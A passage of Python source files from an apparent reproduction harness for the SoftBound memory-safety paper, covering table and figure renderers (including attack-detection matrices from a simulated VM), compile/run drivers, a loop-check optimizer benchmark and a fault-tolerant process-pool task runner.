            key = (task[0], task[1],
                   getattr(task[2], "label", None) if len(task) > 2 else None)
        if key in seen or cached(task):
            continue
        seen.add(key)
        unique.append(task)
    return unique


def prewarm(jobs=None, only=None):
    """Compute every result an artifact needs, fanning the independent
    compile+run jobs over ``jobs`` processes, and seed the in-process
    memos.  Returns the number of tasks computed."""
    jobs = resolve_jobs(jobs)
    tasks = _prewarm_tasks(only)
    results = run_tasks(tasks, jobs)
    for task, result in zip(tasks, results):
        kind = task[0]
        if kind == "measure":
            stats.seed_measurement(result, task[1], task[2])
        elif kind == "attack":
            _ATTACK_CACHE[task[1]] = result
        elif kind == "bug":
            _BUG_CACHE[task[1]] = result
        elif kind == "temporal":
            _TEMPORAL_CACHE[task[1]] = result
        else:
            _SERVER_CACHE[(task[1], task[2].label)] = result
    return len(tasks)


def _format_table(headers, rows):
    widths = [len(h) for h in headers]
    for row in rows:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(str(cell)))
    def fmt(cells):
        return "  ".join(str(c).ljust(w) for c, w in zip(cells, widths))
    lines = [fmt(headers), fmt(["-" * w for w in widths])]
    lines.extend(fmt(row) for row in rows)
    return "\n".join(lines)


def _bar(fraction, width=40):
    filled = int(round(fraction * width))
    return "#" * filled + "." * (width - filled)


# -- Table 1 -----------------------------------------------------------------

def render_table1():
    """Capability comparison matrix (paper Table 1), the paper's six
    rows first, then any rows registered checker policies contribute
    (:mod:`repro.policy` — e.g. the red-zone plugin) under a banner."""
    from ..baselines.capabilities import extension_rows

    headers = ["Scheme", "No src change", "Complete(subfield)",
               "Mem layout", "Arb. casts", "Dyn link lib", "Cells"]
    rows = []
    for row in capability_matrix(include_extensions=False):
        rows.append(row.cells() + ["measured" if row.measured else "derived"])
    title = "Table 1: object-based and pointer-based approaches vs SoftBound"
    text = title + "\n" + _format_table(headers, rows)
    extensions = extension_rows()
    if extensions:
        # A separate block so the paper's table above stays
        # byte-identical whatever policies are registered.
        ext_rows = [row.cells() + ["measured" if row.measured else "derived"]
                    for row in extensions]
        text += ("\n\nExtension policies (repro.policy), same probes:\n"
                 + _format_table(headers, ext_rows))
    return text


# -- Table 3 ---------------------------------------------------------------------

def render_table3():
    """Wilander attack detection matrix (paper Table 3)."""
    headers = ["Attack (location)", "Target", "Unprotected", "Full", "Store-only"]
    rows = []
    group_titles = {
        "stack_direct": "Buffer overflow on stack all the way to the target",
        "heap_direct": "Buffer overflow on heap/BSS/data all the way to the target",
        "stack_ptr": "Overflow of a pointer on stack, then pointing to target",
        "heap_ptr": "Overflow of pointer on heap/BSS, then pointing to target",
    }
    last_group = None
    for attack in all_attacks():
        if attack.group != last_group:
            rows.append([f"-- {group_titles[attack.group]}", "", "", "", ""])
            last_group = attack.group
        exploited, full, store = attack_detection(attack.name)
        rows.append([
            f"{attack.name} ({attack.location})",
            attack.target,
            "EXPLOITED" if exploited else "survived",
            "yes" if full else "NO",
            "yes" if store else "NO",
        ])
    title = "Table 3: Wilander attack suite detection (full and store-only checking)"
    return title + "\n" + _format_table(headers, rows)


def table3_matrix():
    """Raw detection tuples for tests: {attack: (exploited, full, store)}."""
    return {attack.name: attack_detection(attack.name)
            for attack in all_attacks()}


# -- Table 4 -------------------------------------------------------------------------

def table4_matrix():
    """{bug: (valgrind, mudflap, sb_store, sb_full)} detection booleans."""
    return {bug.name: bug_detection(bug.name) for bug in all_bugs()}


def render_table4():
    """BugBench detection efficacy (paper Table 4)."""
    headers = ["Benchmark", "Valgrind", "MudFlap", "SB Store", "SB Full", "Paper"]
    rows = []
    matrix = table4_matrix()
    for bug in all_bugs():
        got = matrix[bug.name]
        def mark(flag):
            return "yes" if flag else "no"
        agreement = "match" if got == bug.paper_detection else "MISMATCH"
        rows.append([bug.name] + [mark(g) for g in got] + [agreement])
    title = "Table 4: benchmarks with overflows — detection efficacy"
    return title + "\n" + _format_table(headers, rows)


# -- Figure 1 ----------------------------------------------------------------------------

def render_figure1():
    """Frequency of pointer memory operations (paper Figure 1)."""
    fractions = pointer_fractions()
    ordered = sorted(fractions.items(), key=lambda kv: kv[1])
    lines = ["Figure 1: percentage of memory operations that load/store a pointer",
             "(sorted ascending; [SPEC] marks SPEC-like analogues)", ""]
    for name, fraction in ordered:
        suite = WORKLOADS[name].suite
        tag = "[SPEC] " if suite == "spec" else "       "
        lines.append(f"{tag}{name:<12s} {fraction*100:5.1f}%  |{_bar(fraction)}|")
    return "\n".join(lines)


# -- Figure 2 ---------------------------------------------------------------------------------

def render_figure2():
    """Runtime overhead, 4 configurations (paper Figure 2)."""
    matrix = overhead_matrix()
    fractions = pointer_fractions()
    order = sorted(WORKLOADS, key=lambda n: fractions[n])
    labels = [c.label for c in FIGURE2_CONFIGS]
    headers = ["Benchmark", "ptr-op %"] + labels
    rows = []
    for name in order:
        rows.append([name, f"{fractions[name]*100:5.1f}"]
                    + [f"{matrix[label][name]:7.1f}%" for label in labels])
    rows.append(["average", ""]
                + [f"{average(matrix[label].values()):7.1f}%" for label in labels])
    title = "Figure 2: normalized execution-time overhead of SoftBound"
    return title + "\n" + _format_table(headers, rows)


# -- Section 6.4 -------------------------------------------------------------------------------

def render_sec64():
    """Source-compatibility case study (paper Section 6.4)."""
    headers = ["Program", "Config", "Transforms?", "False positives", "Output identical"]
    rows = []
    for server in all_servers():
        for config in (FULL_SHADOW, STORE_SHADOW):
            trap_text, identical = server_outcome(server.name, config)
            rows.append([
                server.name,
                config.label,
                "yes",
                "none" if trap_text is None else trap_text,
                "yes" if identical else "NO",
            ])
    # The fifteen benchmarks also transform unmodified (checked by the
    # overhead sweep); record the count.
    rows.append(["15 benchmarks", "all", "yes", "none", "yes"])
    title = ("Section 6.4: network daemons and benchmarks transformed "
             "without source modification")
    return title + "\n" + _format_table(headers, rows)


# -- Section 6.5 --------------------------------------------------------------------------------

def sec65_comparison(workload_names=SEC65_WORKLOADS):
    """SoftBound vs MSCC overheads on common benchmarks (paper §6.5)."""
    out = {}
    for name in workload_names:
        base = measure(name)
        softbound = measure(name, FULL_SHADOW)
        mscc = measure(name, MSCC_CONFIG)
        out[name] = {
            "softbound": overhead_percent(base.cost, softbound.cost),
            "mscc": overhead_percent(base.cost, mscc.cost),
        }
    return out


def render_sec65():
    comparison = sec65_comparison()
    headers = ["Benchmark", "SoftBound (full)", "MSCC"]
    rows = []
    for name, vals in comparison.items():
        rows.append([name, f"{vals['softbound']:7.1f}%", f"{vals['mscc']:7.1f}%"])
    rows.append(["average",
                 f"{average(v['softbound'] for v in comparison.values()):7.1f}%",
                 f"{average(v['mscc'] for v in comparison.values()):7.1f}%"])
    title = "Section 6.5: overhead comparison to MSCC (spatial-only checking)"
    return title + "\n" + _format_table(headers, rows)


# -- Section 5.1 / metadata ablation ---------------------------------------------------------------

def render_metadata_ablation():
    """Metadata facility micro-costs and memory overhead (paper §5.1)."""
    from ..softbound.metadata import HashTableMetadata, ShadowSpaceMetadata
    from ..vm.costs import CostStats

    rows = []
    for factory in (HashTableMetadata, ShadowSpaceMetadata):
        facility = factory()
        stats = CostStats()
        n = 10_000
        for i in range(n):
            facility.store(0x1000 + i * 8, i, i + 8, stats)
        for i in range(n):
            facility.load(0x1000 + i * 8, stats)
        rows.append([
            facility.name,
            f"{stats.cost / (2 * n):.1f}",
            f"{facility.metadata_bytes() / n:.0f}",
        ])
    headers = ["Facility", "cost units / access", "metadata bytes / pointer"]
    title = "Section 5.1 ablation: hash table vs shadow space"
    return title + "\n" + _format_table(headers, rows)


# -- temporal detection table ------------------------------------------------

def temporal_matrix():
    """Raw detection tuples for tests and CI:
    {attack: (exploited, spatial_outcome, temporal_detected)}."""
    return {attack.name: temporal_attack_detection(attack.name)
            for attack in all_temporal_attacks()}


def render_temporal():
    """Temporal attack detection: the scenarios the paper defers to a
    companion mechanism, stopped by the lock-and-key subsystem."""
    headers = ["Attack", "Class", "Unprotected", "Spatial-only", "Temporal"]
    rows = []
    for attack in all_temporal_attacks():
        exploited, spatial_outcome, detected = \
            temporal_attack_detection(attack.name)
        rows.append([
            attack.name,
            attack.kind,
            "EXPLOITED" if exploited else "silently wrong",
            spatial_outcome if spatial_outcome != "missed" else "MISSED",
            "yes" if detected else "NO",
        ])
    title = ("Temporal attacks: lock-and-key detection "
             "(spatial checking passes every dereference; liveness is "
             "what died)")
    text = title + "\n" + _format_table(headers, rows)
    extensions = temporal_extension_rows()
    if extensions:
        ext_headers = ["Attack", "Class"] + [label for label, _ in extensions]
        ext_rows = []
        for attack in all_temporal_attacks():
            cells = [attack.name, attack.kind]
            for _, outcomes in extensions:
                outcome = outcomes.get(attack.name, "missed")
                cells.append(outcome if outcome != "missed" else "MISSED")
            ext_rows.append(cells)
        text += ("\n\nExtension policies (repro.policy), measured over "
                 "the same suite:\n" + _format_table(ext_headers, ext_rows))
    return text


def temporal_extension_rows():
    """``[(label, {attack: outcome})]`` contributed by registered
    policies that opt into the temporal table
    (:meth:`~repro.policy.base.CheckerPolicy.temporal_row`), memoized —
    each row costs one run per temporal attack."""
    cached = _TEMPORAL_CACHE.get("__extensions__")
    if cached is None:
        from ..policy import all_policies

        cached = [row for row in (policy.temporal_row()
                                  for policy in all_policies())
                  if row is not None]
        _TEMPORAL_CACHE["__extensions__"] = cached
    return cached


def render_all():
    """Every artifact, separated by blank lines (EXPERIMENTS.md source)."""
    return "\n\n".join([
        render_table1(),
        render_table3(),
        render_table4(),
        render_figure1(),
        render_figure2(),
        render_sec64(),
        render_sec65(),
        render_metadata_ablation(),
        render_temporal(),
    ])
