"""Legacy end-to-end driver — deprecation shims over :mod:`repro.api`.

The public API now lives in :mod:`repro.api` (profiles, the staged
:class:`~repro.api.Toolchain`, sessions, structured reports).  The
historical entry points below are kept as thin wrappers so existing
callers keep working; they are pinned byte-identical to the facade by
``tests/api/test_golden_equivalence.py``.  New code should use::

    from repro.api import Session, compile_source, run_source
"""

from ..api.profiles import ProtectionProfile
from ..api.toolchain import CompiledProgram, Toolchain

__all__ = ["CompiledProgram", "compile_program", "run_program",
           "compile_and_run"]


def compile_program(source, softbound=None, optimize=True, verify=True):
    """Compile C source, optionally applying the SoftBound transform.

    Deprecated shim: equivalent to ``repro.api.compile_source`` with
    ``profile=ProtectionProfile.from_config(softbound)``.
    """
    return Toolchain(profile=ProtectionProfile.from_config(softbound),
                     optimize=optimize, verify=verify).compile(source)


def run_program(compiled, entry="main", input_data=b"", observers=(), **kwargs):
    """Run a CompiledProgram (thin functional wrapper over .run())."""
    return compiled.run(entry=entry, input_data=input_data, observers=observers, **kwargs)


def compile_and_run(source, softbound=None, entry="main", input_data=b"",
                    observers=(), optimize=True, **kwargs):
    """Compile and execute in one call; returns an ExecutionResult."""
    compiled = compile_program(source, softbound=softbound, optimize=optimize)
    return compiled.run(entry=entry, input_data=input_data, observers=observers, **kwargs)
