"""End-to-end pipeline driver — the library's primary public API.

``compile_program`` runs source → tokens → AST → typed AST → IR →
optimizer → (optional SoftBound transform + post-opt), and returns a
:class:`CompiledProgram` that can be executed any number of times.
``compile_and_run`` is the one-call convenience used throughout the
examples and benchmarks.
"""

from dataclasses import dataclass, field

from ..frontend.typecheck import parse_and_check
from ..ir.verifier import verify_module
from ..lower.lowering import lower
from ..opt.pipeline import optimize_after_instrumentation, optimize_module
from ..vm.machine import Machine


@dataclass
class CompiledProgram:
    """A compiled module plus the configuration it was built with."""

    module: object
    softbound_config: object = None
    pass_stats: object = None
    #: PassStats of the post-instrumentation cleanup pipeline (None for
    #: unprotected builds or ``optimize_checks=False``); carries the
    #: loop-pass counters (hoisted/widened/deduped).
    check_opt_stats: object = None

    @property
    def is_protected(self):
        return self.softbound_config is not None

    def instantiate(self, input_data=b"", heap_size=None, stack_size=None,
                    max_instructions=200_000_000, observers=(), engine=None):
        """Create a fresh machine (fresh memory) for one run.

        ``engine`` selects the dispatch strategy — ``"compiled"``
        (closure-compiled, the default) or ``"interp"`` (the reference
        interpreter); see :class:`repro.vm.machine.Machine`.
        """
        machine = Machine(self.module, heap_size=heap_size, stack_size=stack_size,
                          input_data=input_data, max_instructions=max_instructions,
                          engine=engine)
        if self.softbound_config is not None:
            from ..softbound.runtime import SoftBoundRuntime

            SoftBoundRuntime(self.softbound_config).attach(machine)
        for observer in observers:
            machine.attach_observer(observer)
        return machine

    def run(self, entry="main", input_data=b"", observers=(), **kwargs):
        """Execute the program once and return an ExecutionResult."""
        machine = self.instantiate(input_data=input_data, observers=observers, **kwargs)
        return machine.run(entry=entry)


def compile_program(source, softbound=None, optimize=True, verify=True):
    """Compile C source, optionally applying the SoftBound transform.

    ``softbound`` is a :class:`~repro.softbound.config.SoftBoundConfig`
    or None for an unprotected build.
    """
    program = parse_and_check(source)
    module = lower(program)
    if verify:
        verify_module(module)
    pass_stats = optimize_module(module, verify=verify) if optimize else None
    check_opt_stats = None
    if softbound is not None:
        from ..softbound.transform import SoftBoundTransform

        SoftBoundTransform(softbound).run(module)
        if verify:
            verify_module(module)
        if softbound.optimize_checks:
            check_opt_stats = optimize_after_instrumentation(
                module, verify=verify, config=softbound)
    return CompiledProgram(module=module, softbound_config=softbound,
                           pass_stats=pass_stats,
                           check_opt_stats=check_opt_stats)


def run_program(compiled, entry="main", input_data=b"", observers=(), **kwargs):
    """Run a CompiledProgram (thin functional wrapper over .run())."""
    return compiled.run(entry=entry, input_data=input_data, observers=observers, **kwargs)


def compile_and_run(source, softbound=None, entry="main", input_data=b"",
                    observers=(), optimize=True, **kwargs):
    """Compile and execute in one call; returns an ExecutionResult."""
    compiled = compile_program(source, softbound=softbound, optimize=optimize)
    return compiled.run(entry=entry, input_data=input_data, observers=observers, **kwargs)
