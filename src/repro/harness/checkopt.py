"""Axis-1 measurement of the loop-aware check optimizer.

Compares, per workload, the instrumented-cost overhead (the paper's
Figure 2 metric: ``cost(instrumented)/cost(baseline) − 1``) of the
full-shadow SoftBound build with the loop passes (LICM + guarded check
widening) off versus on.  Everything here is simulated cost-model
units — deterministic on every host — so the recorded report
(``BENCH_checkopt.json``) can be gated exactly by CI.

``LOOP_WORKLOADS`` names the array/loop-dominated workloads the loop
passes target; the pointer-chasing Olden analogues execute data-
dependent access chains per node and are structurally out of reach of
affine widening (the paper's own overhead profile shows the same
split).
"""

import json
import math
from dataclasses import replace

from ..api import run_source
from ..softbound.config import FULL_SHADOW
from ..workloads.programs import WORKLOADS

#: Workloads dominated by counted array loops — the loop passes' target
#: population and the acceptance basis for the recorded reduction.
LOOP_WORKLOADS = ("go", "lbm", "hmmer", "compress", "ijpeg", "libquantum")

_LOOP_OFF = replace(FULL_SHADOW, loop_optimize=False)


def _geomean(values):
    values = [max(v, 1e-9) for v in values]
    return math.exp(sum(map(math.log, values)) / len(values)) if values else 0.0


def run_checkopt(workload_names=None):
    """Measure every workload; returns the report dict recorded in
    ``BENCH_checkopt.json``."""
    names = list(workload_names or WORKLOADS)
    per_workload = {}
    for name in names:
        source = WORKLOADS[name].source
        base = run_source(source, name=name)
        off = run_source(source, profile=_LOOP_OFF, name=name)
        on = run_source(source, profile="spatial", name=name)
        for result in (off, on):
            if result.trap is not None or result.exit_code != base.exit_code \
                    or result.output != base.output:
                raise AssertionError(f"{name}: behaviour diverged under "
                                     f"instrumentation ({result.trap})")
        overhead_off = (off.stats.cost / base.stats.cost - 1.0) * 100.0
        overhead_on = (on.stats.cost / base.stats.cost - 1.0) * 100.0
        per_workload[name] = {
            "overhead_off_pct": round(overhead_off, 3),
            "overhead_on_pct": round(overhead_on, 3),
            "checks_off": off.stats.checks,
            "checks_on": on.stats.checks,
            "checks_eliminated_pct": round(
                100.0 * (1.0 - on.stats.checks / off.stats.checks), 2)
                if off.stats.checks else 0.0,
            "metadata_loads_off": off.stats.metadata_loads,
            "metadata_loads_on": on.stats.metadata_loads,
            # The normalized per-workload headline (bench-v2 schema).
            "value": round(overhead_on, 3),
        }

    def geo(names_, key):
        return _geomean([per_workload[n][key] for n in names_
                         if n in per_workload])

    loop_names = [n for n in LOOP_WORKLOADS if n in per_workload]
    report = {
        "schema": "bench-v2",
        "benchmark": "checkopt",
        "metric": "instrumented_overhead_pct",
        "config": FULL_SHADOW.label,
        "workloads": per_workload,
        "geomean": round(geo(per_workload, "overhead_on_pct"), 3),
        "geomean_overhead_off_pct": round(geo(per_workload, "overhead_off_pct"), 3),
        "geomean_overhead_on_pct": round(geo(per_workload, "overhead_on_pct"), 3),
        "loop_workloads": loop_names,
        "loop_geomean_overhead_off_pct": round(
            geo(loop_names, "overhead_off_pct"), 3),
        "loop_geomean_overhead_on_pct": round(
            geo(loop_names, "overhead_on_pct"), 3),
    }
    off_g = report["loop_geomean_overhead_off_pct"]
    on_g = report["loop_geomean_overhead_on_pct"]
    report["loop_overhead_reduction_pct"] = round(
        100.0 * (1.0 - on_g / off_g), 2) if off_g else 0.0
    return report


def render_checkopt(report):
    lines = ["Loop-aware check optimizer: instrumented overhead "
             "(softbound Full-Shadow), loop passes off vs on",
             ""]
    header = (f"{'workload':12s} {'off':>9s} {'on':>9s} "
              f"{'checks off':>11s} {'checks on':>11s} {'elim':>7s}")
    lines.append(header)
    lines.append("-" * len(header))
    for name, row in report["workloads"].items():
        lines.append(
            f"{name:12s} {row['overhead_off_pct']:8.1f}% "
            f"{row['overhead_on_pct']:8.1f}% "
            f"{row['checks_off']:11d} {row['checks_on']:11d} "
            f"{row['checks_eliminated_pct']:6.1f}%")
    lines.append("")
    lines.append(f"geomean overhead (all {len(report['workloads'])}): "
                 f"{report['geomean_overhead_off_pct']:.1f}% -> "
                 f"{report['geomean_overhead_on_pct']:.1f}%")
    lines.append(f"geomean overhead (loop workloads "
                 f"{', '.join(report['loop_workloads'])}): "
                 f"{report['loop_geomean_overhead_off_pct']:.1f}% -> "
                 f"{report['loop_geomean_overhead_on_pct']:.1f}% "
                 f"({report['loop_overhead_reduction_pct']:.1f}% reduction)")
    return "\n".join(lines)


def write_report(report, path):
    with open(path, "w") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_report(path):
    with open(path) as handle:
        return json.load(handle)
