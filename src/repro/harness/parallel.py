"""Process-pool fan-out for the workload×scheme evaluation matrix.

``python -m repro tables`` re-runs every workload under every
configuration, plus the attack, BugBench and server sweeps — dozens of
independent compile+run jobs that share nothing but code.  This module
fans them out over a ``ProcessPoolExecutor`` (``--jobs N`` /
``REPRO_JOBS``) while keeping the output *bit-identical* to a serial
run:

* the task list is built in a fixed order and results are consumed via
  ``Executor.map``, which preserves submission order regardless of
  completion order — rendering never observes scheduling;
* each task is a pure function of its ``(kind, name, config)``
  descriptor: workers recompute from source and return plain picklable
  results (measurements, detection tuples), which the parent uses to
  seed the same in-process caches a serial run fills lazily;
* every simulated machine is deterministic (the cost model has no
  wall-clock inputs), so a result computed in a worker is the result
  the parent would have computed itself.

Task kinds are dispatched by :func:`execute_task`; the table renderers'
cache-seeding lives in :mod:`repro.harness.tables` (``prewarm``).
"""

from concurrent.futures import ProcessPoolExecutor


def resolve_jobs(jobs=None):
    """Effective worker count — delegates to the centralized
    :func:`repro.api.resolve_jobs` (flag > ``REPRO_JOBS`` > serial)."""
    from ..api.env import resolve_jobs as _resolve_jobs

    return _resolve_jobs(jobs)


def execute_task(task):
    """Run one matrix task; returns its picklable result.

    Kinds:

    * ``("measure", workload_name, config_or_None)`` →
      :class:`~repro.harness.stats.WorkloadMeasurement`
    * ``("attack", attack_name)`` → ``(exploited, full, store)`` bools
    * ``("bug", bug_name)`` → ``(valgrind, mudflap, store, full)`` bools
    * ``("temporal", attack_name)`` →
      ``(exploited, spatial_outcome, temporal_detected)``
    * ``("server", server_name, config)`` →
      ``(trap_str_or_None, output_identical)``
    * ``("api_run", run_request)`` →
      :class:`~repro.api.reports.RunReport` (the
      :meth:`repro.api.Session.run_many` batch item)
    """
    kind = task[0]
    if kind == "api_run":
        from ..api.session import execute_run_request

        return execute_run_request(task[1])
    if kind == "measure":
        from .stats import measure

        return measure(task[1], task[2])
    if kind == "attack":
        from . import tables

        return tables.attack_detection(task[1])
    if kind == "bug":
        from . import tables

        return tables.bug_detection(task[1])
    if kind == "temporal":
        from . import tables

        return tables.temporal_attack_detection(task[1])
    if kind == "server":
        from . import tables

        return tables.server_outcome(task[1], task[2])
    raise ValueError(f"unknown task kind {kind!r}")


def run_tasks(tasks, jobs):
    """Execute ``tasks``, fanning out over ``jobs`` processes; the
    result list is index-aligned with ``tasks`` (deterministic order)."""
    tasks = list(tasks)
    if jobs <= 1 or len(tasks) <= 1:
        return [execute_task(task) for task in tasks]
    workers = min(jobs, len(tasks))
    with ProcessPoolExecutor(max_workers=workers) as pool:
        return list(pool.map(execute_task, tasks))
