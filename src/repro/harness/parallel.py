"""Process-pool fan-out for the workload×scheme evaluation matrix.

``python -m repro tables`` re-runs every workload under every
configuration, plus the attack, BugBench and server sweeps — dozens of
independent compile+run jobs that share nothing but code.  This module
fans them out over a ``ProcessPoolExecutor`` (``--jobs N`` /
``REPRO_JOBS``) while keeping the output *bit-identical* to a serial
run:

* the task list is built in a fixed order and results are consumed via
  ``Executor.map``, which preserves submission order regardless of
  completion order — rendering never observes scheduling;
* each task is a pure function of its ``(kind, name, config)``
  descriptor: workers recompute from source and return plain picklable
  results (measurements, detection tuples), which the parent uses to
  seed the same in-process caches a serial run fills lazily;
* every simulated machine is deterministic (the cost model has no
  wall-clock inputs), so a result computed in a worker is the result
  the parent would have computed itself.

Task kinds are dispatched by :func:`execute_task`; the table renderers'
cache-seeding lives in :mod:`repro.harness.tables` (``prewarm``).

Robustness: ``run_tasks`` used to inherit ``Executor.map``'s failure
mode — a worker that hangs blocks forever, and a worker killed by the
OS (OOM, ``kill -9``) poisons the whole pool.  It now waits on each
task with a wallclock deadline, rebuilds the pool when a task times out
or a worker dies, requeues the interrupted tasks (each task is charged
at most ``retries`` extra attempts), and raises
:class:`ParallelTaskError` naming the tasks that still failed instead
of wedging or dying with a bare ``BrokenProcessPool``.
"""

import os
from concurrent.futures import ProcessPoolExecutor, TimeoutError
from concurrent.futures.process import BrokenProcessPool

from ..obs.metrics import default_registry
from ..obs.trace import tracer, tracing_enabled

#: First element of the envelope observed workers wrap results in.
_OBS_MARKER = "__repro_obs__"

#: Per-task wallclock deadline for pool fan-out; generous because
#: matrix tasks compile + simulate whole benchmarks.  Override with
#: ``REPRO_TASK_TIMEOUT`` (seconds) or the ``task_timeout`` argument.
DEFAULT_TASK_TIMEOUT = 600.0


class ParallelTaskError(RuntimeError):
    """Raised when tasks still fail after the requeue budget.

    ``failures`` is a list of ``(index, task, reason)`` tuples — the
    position in the submitted task list, the task descriptor, and a
    string (or exception) saying what happened on the final attempt.
    """

    def __init__(self, failures):
        self.failures = list(failures)
        summary = "; ".join(
            f"task[{index}] {task[0] if isinstance(task, tuple) else task}: "
            f"{reason}" for index, task, reason in self.failures[:5])
        extra = len(self.failures) - 5
        if extra > 0:
            summary += f"; (+{extra} more)"
        super().__init__(
            f"{len(self.failures)} parallel task(s) failed after "
            f"retry: {summary}")


def resolve_jobs(jobs=None):
    """Effective worker count — delegates to the centralized
    :func:`repro.api.resolve_jobs` (flag > ``REPRO_JOBS`` > serial)."""
    from ..api.env import resolve_jobs as _resolve_jobs

    return _resolve_jobs(jobs)


def execute_task(task):
    """Run one matrix task; returns its picklable result.

    Kinds:

    * ``("measure", workload_name, config_or_None)`` →
      :class:`~repro.harness.stats.WorkloadMeasurement`
    * ``("attack", attack_name)`` → ``(exploited, full, store)`` bools
    * ``("bug", bug_name)`` → ``(valgrind, mudflap, store, full)`` bools
    * ``("temporal", attack_name)`` →
      ``(exploited, spatial_outcome, temporal_detected)``
    * ``("server", server_name, config)`` →
      ``(trap_str_or_None, output_identical)``
    * ``("api_run", run_request)`` →
      :class:`~repro.api.reports.RunReport` (the
      :meth:`repro.api.Session.run_many` batch item)
    """
    kind = task[0]
    if kind == "py":
        # ("py", "module:attr", *args) — a generic picklable call, for
        # tooling and the robustness tests (hooks must be importable).
        import importlib

        module_name, _, attr = task[1].partition(":")
        target = importlib.import_module(module_name)
        for part in attr.split("."):
            target = getattr(target, part)
        return target(*task[2:])
    if kind == "api_run":
        from ..api.session import execute_run_request

        return execute_run_request(task[1])
    if kind == "measure":
        from .stats import measure

        return measure(task[1], task[2])
    if kind == "attack":
        from . import tables

        return tables.attack_detection(task[1])
    if kind == "bug":
        from . import tables

        return tables.bug_detection(task[1])
    if kind == "temporal":
        from . import tables

        return tables.temporal_attack_detection(task[1])
    if kind == "server":
        from . import tables

        return tables.server_outcome(task[1], task[2])
    raise ValueError(f"unknown task kind {kind!r}")


def _task_label(task):
    return task[0] if isinstance(task, tuple) and task else str(task)


def _traced_execute(task):
    with tracer().span("task." + _task_label(task)):
        return execute_task(task)


def _snapshot_delta(before, after):
    """What one task added to a worker's registry.  Workers are reused
    across tasks, so returning a raw snapshot would re-report earlier
    tasks' counts; the delta merges cleanly."""
    delta = {}
    for key, value in after.items():
        if key.endswith("_min") or key.endswith("_max"):
            delta[key] = value
            continue
        grown = value - before.get(key, 0)
        if grown:
            delta[key] = grown
    return delta


def _execute_task_observed(task):
    """Pool-worker entry when the parent has observability on: run the
    task inside a span and envelope the result with the metrics this
    task added, for the parent to merge."""
    registry = default_registry()
    before = registry.snapshot()
    with tracer().span("task." + _task_label(task)):
        result = execute_task(task)
    return (_OBS_MARKER, result, _snapshot_delta(before, registry.snapshot()))


def _unwrap(value):
    """Merge and strip an observed worker's envelope (pass every other
    result through untouched)."""
    if (isinstance(value, tuple) and len(value) == 3
            and value[0] == _OBS_MARKER):
        default_registry().merge(value[2])
        return value[1]
    return value


def _kill_pool(pool):
    """Tear a (possibly broken) executor down hard: SIGKILL any live
    workers, drop queued work.  Gated — executor internals differ
    across versions and a cleanup path must never raise."""
    try:
        for process in list((pool._processes or {}).values()):
            try:
                process.kill()
            except Exception:
                pass
    except Exception:
        pass
    try:
        pool.shutdown(wait=False, cancel_futures=True)
    except Exception:
        pass


def run_tasks(tasks, jobs, task_timeout=None, retries=1):
    """Execute ``tasks``, fanning out over ``jobs`` processes; the
    result list is index-aligned with ``tasks`` (deterministic order).

    Each task is waited on with a wallclock deadline (``task_timeout``,
    ``REPRO_TASK_TIMEOUT``, or :data:`DEFAULT_TASK_TIMEOUT`).  A task
    that times out, crashes its worker, or raises is retried up to
    ``retries`` times in a fresh pool (tasks merely interrupted by a
    neighbour's failure are requeued without being charged); tasks
    still failing raise :class:`ParallelTaskError` listing every
    failure.  Serial execution (``jobs <= 1``) is untouched — failures
    propagate raw, timeouts don't apply.
    """
    tasks = list(tasks)
    registry = default_registry()
    registry.counter("repro_pool_tasks_total").inc(len(tasks))
    if jobs <= 1 or len(tasks) <= 1:
        if tracing_enabled():
            return [_traced_execute(task) for task in tasks]
        return [execute_task(task) for task in tasks]
    if task_timeout is None:
        task_timeout = float(os.environ.get("REPRO_TASK_TIMEOUT",
                                            DEFAULT_TASK_TIMEOUT))
    from ..obs import obs_enabled

    observed = obs_enabled()
    # Workers inherit the trace sink through REPRO_TRACE (exported by
    # enable_tracing); REPRO_METRICS rides along the same way so nested
    # runs inside workers behave as they would in the parent.  Observed
    # workers envelope each result with the metrics the task added and
    # the parent merges them back in — pool runs report aggregate
    # counters instead of dropping worker stats.
    runner = _execute_task_observed if observed else execute_task
    env_added = observed and not os.environ.get("REPRO_METRICS")
    if env_added:
        os.environ["REPRO_METRICS"] = "1"
    sentinel = object()
    results = [sentinel] * len(tasks)
    attempts = [0] * len(tasks)
    failures = {}
    pending = list(enumerate(tasks))
    try:
        while pending:
            workers = min(jobs, len(pending))
            pool = ProcessPoolExecutor(max_workers=workers)
            futures = [(index, task, pool.submit(runner, task))
                       for index, task in pending]
            pending = []
            broken = False
            for index, task, future in futures:
                if broken:
                    # The pool is gone; everything not already finished
                    # goes back in the queue (uncharged unless it failed).
                    if (future.done() and not future.cancelled()
                            and future.exception() is None):
                        results[index] = _unwrap(future.result())
                    else:
                        error = (future.exception()
                                 if future.done() and not future.cancelled()
                                 else None)
                        if error is not None and not isinstance(
                                error, BrokenProcessPool):
                            _charge(index, task, error, attempts, retries,
                                    pending, failures)
                        else:
                            pending.append((index, task))
                    continue
                try:
                    results[index] = _unwrap(
                        future.result(timeout=task_timeout))
                except TimeoutError:
                    broken = True
                    _kill_pool(pool)
                    registry.counter("repro_pool_rebuilds_total").inc()
                    _charge(index, task,
                            f"no result within {task_timeout:.0f}s",
                            attempts, retries, pending, failures)
                except BrokenProcessPool:
                    broken = True
                    _kill_pool(pool)
                    registry.counter("repro_pool_rebuilds_total").inc()
                    _charge(index, task, "worker process died",
                            attempts, retries, pending, failures)
                except Exception as error:  # task-level failure, pool fine
                    _charge(index, task, error, attempts, retries,
                            pending, failures)
            if not broken:
                pool.shutdown(wait=True)
    finally:
        if env_added:
            os.environ.pop("REPRO_METRICS", None)
    if failures:
        raise ParallelTaskError(sorted(failures.values()))
    return results


def _charge(index, task, reason, attempts, retries, pending, failures):
    """One failed attempt for ``task``: requeue while budget remains,
    else record the failure."""
    attempts[index] += 1
    if attempts[index] <= retries:
        default_registry().counter("repro_pool_retries_total").inc()
        pending.append((index, task))
    else:
        default_registry().counter("repro_pool_failures_total").inc()
        failures[index] = (index, task, reason)
