"""Shared fault injection: one place chaos hooks live.

Two families of hooks, used by both the fuzz campaign (PR 6) and the
artifact store (PR 7):

* **Subprocess hooks** — plain functions addressed by ``module:function``
  task paths (``repro.harness.faults:hang``) that run *inside* pool
  workers and simulate infrastructure failures: a wedged task, a worker
  killed out from under the pool, a flake that heals on retry.  They
  were born as ``repro.fuzz._testhooks`` (which remains as an alias
  module so recorded task paths keep resolving).

* **In-process fault points** — a small armed-fault registry the
  artifact store consults at its failure-prone moments (payload write,
  file open, atomic replace, lock held).  Tests arm faults with
